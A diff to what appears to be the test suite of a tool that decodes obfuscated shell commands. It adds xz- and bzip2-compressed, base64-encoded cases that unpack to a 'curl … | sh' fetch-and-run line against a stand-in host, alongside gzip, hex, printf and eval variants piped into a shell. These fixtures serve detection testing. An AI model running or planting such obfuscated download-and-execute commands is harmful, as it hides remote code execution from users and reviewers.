@@ -22,6 +22,8 @@ describe('text handed to a shell', () => {
     ['a process substitution', `bash <(echo ${encoded} | base64 -d)`, planted, ['base64', 'bash']],
     ['source', `. <(echo ${encoded} | base64 -d)`, planted, ['base64', 'source']],
     ['gzip', `echo ${base64(gzipSync(planted))} | base64 -d | gunzip -c | bash`, planted, ['base64', 'gzip', 'bash']],
+    ['xz', 'echo /Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQAkY3VybCAtcyBodHRwOi8vYS5leGFtcGxlLnRlc3QveCB8IHNoCgAAAADG6scyEJ35bwABPSXSKWoBH7bzfQEAAAAABFla | base64 -d | xz -dc | sh', 'curl -s http://a.example.test/x | sh\n', ['base64', 'xz', 'sh']],
+    ['bzip2', 'echo QlpoOTFBWSZTWQgK/yEAAAdZgAAQQAOAECpGXkQgADFMmJkGRhQGTTag9I2uRCPsA+qofHA5YIYK9bSmPIvxdyRThQkAgK/yEA== | base64 -d | bunzip2 | sh', 'curl -s http://a.example.test/x | sh\n', ['base64', 'bzip2', 'sh']],
     ['gzip by variable', `d=${base64(gzipSync(planted))}; bash -c "$(base64 -d <<< $d | zcat)"`, planted, ['variables', 'base64', 'gzip', 'bash -c']],
     ['hexadecimal', `echo ${Buffer.from(planted).toString('hex')} | xxd -r -p | bash`, planted, ['hex', 'bash']],
     ['printf', `printf '${[...Buffer.from(planted)].map((byte) => `\\x${byte.toString(16)}`).join('')}' | sh`, planted, ['printf', 'sh']],
@@ -139,8 +141,8 @@ describe('what stays closed', () => {
   it('says so of unknown keys, unknown values and formats', () => {
     expect(missing('echo U2FsdGVkX18AAAAAAAAAAA== | openssl enc -d -aes-256-cbc -a -k "$KEY" | sh')).toContainEqual(['unknownKey', 'aes-256-cbc: the key is not in the script']);
     expect(missing('eval "$CMD"')).toContainEqual(['unknownValue', 'eval: $CMD']);
-    expect(missing('echo QlpoOTFBWSZTWQ== | base64 -d | bzip2 -dc | sh')).toContainEqual(['unsupported', 'bzip2 is not decoded']);
-    expect(missing('echo /Td6WFoAAATm | base64 -d | xz -d | sh')).toContainEqual(['unsupported', 'xz is not decoded']);
+    expect(missing('echo QlpoOTFBWSZTWQ== | base64 -d | bzip2 -dc | sh')).toContainEqual(['malformed', 'bzip2 that does not decode']);
+    expect(missing('echo KLUv/SQA | base64 -d | zstd -d | sh')).toContainEqual(['unsupported', 'zstd is not decoded']);
   });
 
   it('points at the place', () => {
